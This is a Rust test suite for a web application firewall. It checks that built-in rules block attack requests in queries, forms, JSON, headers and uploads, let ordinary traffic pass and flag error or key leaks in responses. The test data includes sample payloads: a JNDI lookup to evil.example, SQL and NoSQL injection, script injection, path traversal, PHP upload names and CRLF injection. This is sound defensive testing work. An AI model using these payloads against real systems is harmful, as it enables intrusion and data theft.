//! The built-in rules: each one matches its attacks, and ordinary traffic passes.

use crate::waf::base_rules;
use crate::waf::bodies::reader::{BodyReader, BodySettings};
use crate::waf::language::parser::RuleText;
use crate::waf::library::Library;
use crate::waf::policy::compiled::{Policy, PolicySettings};
use crate::waf::request::head::RequestHead;
use crate::waf::transaction::run::Transaction;
use std::collections::BTreeSet;
use std::sync::Arc;

const ATTACKS: &str = include_str!("attacks.txt");
const BENIGN: &str = include_str!("benign.txt");

fn policy() -> Arc<Policy> {
    let mut text = RuleText::default();
    base_rules::add_to(&mut text).unwrap();
    Arc::new(Policy::new(Arc::new(Library::new(text)), PolicySettings::default()))
}

/// The lines of a list, without comments; `\r`, `\n`, `\t` and `\\` are escapes.
fn lines(text: &str) -> impl Iterator<Item = String> {
    let lines = text.lines().filter(|line| !line.starts_with('#') && !line.is_empty());
    lines.map(|line| {
        line.replace("\\\\", "\u{1}")
            .replace("\\r", "\r")
            .replace("\\n", "\n")
            .replace("\\t", "\t")
            .replace('\u{1}', "\\")
    })
}

fn escape(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

struct Sent<'s> {
    method: &'s str,
    target: String,
    headers: Vec<(&'s str, String)>,
    body: String,
}

/// The same argument in a query, a form and a JSON member.
fn places(value: &str) -> Vec<Sent<'static>> {
    let post = |content_type: &str, body: String| Sent {
        method: "POST",
        target: "/api/items".to_owned(),
        headers: vec![("Content-Type", content_type.to_owned()), ("Content-Length", body.len().to_string())],
        body,
    };
    let query = Sent {
        method: "GET",
        target: format!("/search?q={}", escape(value)),
        headers: Vec::new(),
        body: String::new(),
    };
    let json = serde_json::json!({ "a": [{ "q": value }] }).to_string();
    vec![
        query,
        post("application/x-www-form-urlencoded", format!("q={}", escape(value))),
        post("application/json", json),
    ]
}

/// The rules that a request matches, and whether it is blocked.
fn evaluate(policy: &Arc<Policy>, sent: &Sent<'_>) -> (BTreeSet<u32>, bool) {
    let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";
    let fixed = [("Host", "shop.example"), ("User-Agent", agent), ("Accept", "*/*")];
    let own = sent.headers.iter().map(|(name, value)| (*name, value.as_str()));
    let names: BTreeSet<&str> = sent.headers.iter().map(|(name, _)| *name).collect();
    let fixed = fixed.into_iter().filter(|(name, _)| !names.contains(name));
    let headers: Vec<(&[u8], &[u8])> =
        fixed.chain(own).map(|(name, value)| (name.as_bytes(), value.as_bytes())).collect();
    let head = RequestHead {
        method: sent.method.as_bytes(),
        target: sent.target.as_bytes(),
        protocol: b"HTTP/1.1",
        headers: &headers,
        remote_address: [192, 0, 2, 1].into(),
        id: b"1",
    };
    let mut transaction = Transaction::new(policy.clone(), &head, true);
    transaction.run_head();
    let settings = BodySettings { inspect_limit: 1 << 17, is_guessing: true };
    let mut reader = BodyReader::new(transaction.request_mut(), settings);
    reader.push(sent.body.as_bytes(), transaction.request_mut());
    let raw = reader.finish(transaction.request_mut());
    transaction.add_raw_body(&raw);
    transaction.run_body();
    let rules = transaction.matches().iter().map(|found| found.rule).collect();
    (rules, transaction.denial().is_some())
}

#[test]
fn each_rule_matches_its_attacks_in_queries_forms_and_json() {
    let policy = policy();
    let mut missed = Vec::new();
    for line in lines(ATTACKS) {
        let (rule, value) = line.split_once('\t').unwrap();
        let rule: u32 = rule.parse().unwrap();
        for sent in places(value) {
            let (rules, is_blocked) = evaluate(&policy, &sent);
            if !is_blocked || (!rules.contains(&rule) && sent.method == "GET") {
                missed.push(format!("{rule} {value:?} {} {rules:?}", sent.method));
            }
        }
    }
    assert!(missed.is_empty(), "{} missed:\n{}", missed.len(), missed.join("\n"));
}

#[test]
fn ordinary_traffic_passes() {
    let policy = policy();
    let mut blocked = Vec::new();
    for value in lines(BENIGN) {
        for sent in places(&value) {
            let (rules, _) = evaluate(&policy, &sent);
            if !rules.is_empty() {
                blocked.push(format!("{value:?} {} {rules:?}", sent.method));
            }
        }
    }
    assert!(blocked.is_empty(), "{} blocked:\n{}", blocked.len(), blocked.join("\n"));
}

/// A request, and the rule that blocks it.
fn check(rule: u32, method: &str, target: &str, headers: &[(&str, &str)], body: &str) {
    let headers = headers.iter().map(|(name, value)| (*name, (*value).to_owned())).collect();
    let sent = Sent { method, target: target.to_owned(), headers, body: body.to_owned() };
    let (rules, is_blocked) = evaluate(&policy(), &sent);
    assert!(is_blocked && rules.contains(&rule), "{rule} {target}: {rules:?}");
}

#[test]
fn rules_about_the_head_match() {
    check(110_100, "PROPFIND", "/dav/", &[], "");
    check(110_110, "GET", "/?q=a%00b", &[], "");
    check(110_120, "GET", "/", &[("Content-Length", "3"), ("Content-Type", "text/plain")], "a=1");
    check(110_130, "POST", "/", &[("Content-Length", "3")], "a=1");
    check(
        110_140,
        "POST",
        "/",
        &[("Content-Type", "text/plain"), ("Content-Type", "application/json")],
        "{}",
    );
    check(110_160, "POST", "/", &[("Content-Type", "text/plain; charset=ibm037")], "a");
    check(110_170, "POST", "/", &[("Content-Type", "text/plain; charset=utf-8; charset=utf-7")], "a");
    check(110_180, "POST", "/", &[("Content-Type", "text/plain; application/json")], "a");
    check(110_210, "GET", "/index.php~", &[], "");
    check(110_240, "GET", "/a%0d%0aX: y", &[], "");
    check(120_100, "GET", "/", &[("User-Agent", "sqlmap/1.8")], "");
    check(120_110, "GET", "/", &[("X-Scanner", "acunetix-product")], "");
    check(130_110, "GET", "/download?f=%252e%252e%252fx", &[], "");
    check(130_130, "GET", "/.git/config", &[], "");
    check(130_130, "GET", "/app/.env", &[], "");
    check(141_100, "GET", "/", &[("Referer", "http://a.example/<script>alert(1)</script>")], "");
    check(142_100, "GET", "/", &[("Cookie", "id=1' OR '1'='1")], "");
    check(144_100, "GET", "/", &[("X-Api-Version", "${jndi:ldap://evil.example/a}")], "");
    let referer = [("Referer", "http://evil.example/")];
    check(144_140, "GET", "/login?jsessionid=ABCDEF", &referer, "");
    check(134_170, "POST", "/", &[("Content-Type", "application/json")], r#"{"user": {"$ne": 1}}"#);
    check(134_175, "POST", "/", &[("Content-Type", "application/json")], r#"{"user": {"$gt": ""}}"#);
    check(134_130, "POST", "/", &[("Content-Type", "application/json")], r#"{"__proto__": {"a": 1}}"#);
}

#[test]
fn rules_about_uploads_match() {
    let part = |header: &str| {
        format!("--b\r\nContent-Disposition: form-data; name=\"f\"; {header}\r\n\r\nx\r\n--b--\r\n")
    };
    let headers = [("Content-Type", "multipart/form-data; boundary=b")];
    check(143_100, "POST", "/", &headers, &part("filename=\"a.php\""));
    check(143_100, "POST", "/", &headers, &part("filename=\"a.php.jpg\""));
    check(110_260, "POST", "/", &headers, &part("filename=\"a\"\r\nContent-Transfer-Encoding: base64"));
    check(110_270, "POST", "/", &headers, &part("filename=\"a\"\r\nContent-Type: text/plain; charset=utf-7"));
}

/// The rules that a response matches, and whether it is blocked.
fn respond(body: &str) -> (BTreeSet<u32>, bool) {
    let mut text = RuleText::default();
    base_rules::add_to(&mut text).unwrap();
    let settings = PolicySettings { is_response_inspected: true, ..PolicySettings::default() };
    let policy = Arc::new(Policy::new(Arc::new(Library::new(text)), settings));
    let head = RequestHead {
        method: b"GET",
        target: b"/",
        protocol: b"HTTP/1.1",
        headers: &[(b"Host", b"shop.example")],
        remote_address: [192, 0, 2, 1].into(),
        id: b"1",
    };
    let mut transaction = Transaction::new(policy, &head, false);
    transaction.run_head();
    transaction.run_body();
    transaction.request_mut().add_response(200, b"HTTP/1.1", &[(b"Content-Type", b"text/html")]);
    let is_blocked = transaction.run_response(body.as_bytes()).is_some();
    (transaction.matches().iter().map(|found| found.rule).collect(), is_blocked)
}

#[test]
fn rules_about_responses_match_and_ordinary_pages_pass() {
    for (rule, body) in [
        (150_100, "<p>You have an error in your SQL syntax; check the manual</p>"),
        (150_100, "java.sql.SQLException: ORA-00933: SQL command not properly ended"),
        (150_110, "Traceback (most recent call last):\n  File \"app.py\", line 7"),
        (150_110, "java.lang.NullPointerException\n\tat com.example.Shop.run(Shop.java:17)"),
        (150_110, "<b>Warning</b>: include(a.php): failed in /srv/a.php on line <b>7</b>"),
        (150_120, "<html><head><title>Index of /backup</title></head>"),
        (150_130, "<?php echo 1;"),
        (150_130, "-----BEGIN RSA PRIVATE KEY-----\nMII"),
    ] {
        let (rules, is_blocked) = respond(body);
        assert!(is_blocked && rules.contains(&rule), "{rule} {body:?}: {rules:?}");
    }
    for body in [
        "<html><head><title>Index of products</title></head><p>An error occurred: try again</p>",
        "{\"id\": 7, \"note\": \"SQL course, line 3\"}",
        "The warning on line 7 of the form: choose a date",
    ] {
        assert_eq!(respond(body), (BTreeSet::new(), false), "{body:?}");
    }
}
